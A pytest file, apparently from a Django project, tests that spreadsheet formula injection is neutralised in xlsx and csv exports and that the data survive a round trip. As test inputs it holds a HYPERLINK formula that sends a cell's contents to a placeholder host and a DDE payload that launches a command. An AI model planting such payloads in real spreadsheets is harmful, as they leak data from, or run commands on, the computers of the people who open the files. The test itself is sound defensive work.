"""A text that a spreadsheet would run as a formula stays text in exports, and comes back."""

import csv

import pytest
from openpyxl import load_workbook

from himoya.interop.actions import do_export, do_import
from himoya.interop.tabular import escape_formula, unescape_formula
from himoya.interop.tests.test_htcds_import import GOOD, write
from himoya.interop.tests.test_round_trips import records

PAYLOAD = '=HYPERLINK("http://x/?"&B3,"x")'


@pytest.mark.parametrize(
    "value",
    [PAYLOAD, "+992 93 555 0101", "-1+1", "@SUM(A1)", "\t=1", "'=1", "''@x", "'plain", "Ҷамшед"],
)
def test_escape_is_inert_and_reversible(value):
    escaped = escape_formula(value)
    assert not escaped.startswith(("=", "+", "-", "@", "\t"))
    assert unescape_formula(escaped) == value


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_formula_in_a_name_is_neutralised_in_the_export_and_round_trips(
    tmp_path, org, other_org, make_user, kind
):
    hostile = {**GOOD, "prs_FirstName": PAYLOAD, "prs_SecondName": "@cmd|' /C calc'!A0"}
    do_import(org, write(tmp_path, [hostile]), "htcds", acting_user=make_user(org))
    out = tmp_path / f"export.{kind}"
    do_export(org, "htcds", out, acting_user=make_user(org))
    if kind == "xlsx":
        cells = [c for row in load_workbook(out).active.iter_rows() for c in row]
        assert not [c for c in cells if c.data_type == "f"]  # no live formula
        values = [c.value for c in cells]
    else:
        with open(out, encoding="utf-8") as fh:
            values = [v for row in csv.reader(fh) for v in row]
    assert "'" + PAYLOAD in values and PAYLOAD not in values
    assert not [v for v in values if isinstance(v, str) and v.startswith(("=", "@"))]
    do_import(other_org, out, "htcds", acting_user=make_user(other_org))
    assert records(other_org) == records(org)
    assert any(PAYLOAD.replace('"', '\\"') in r for r in records(other_org))
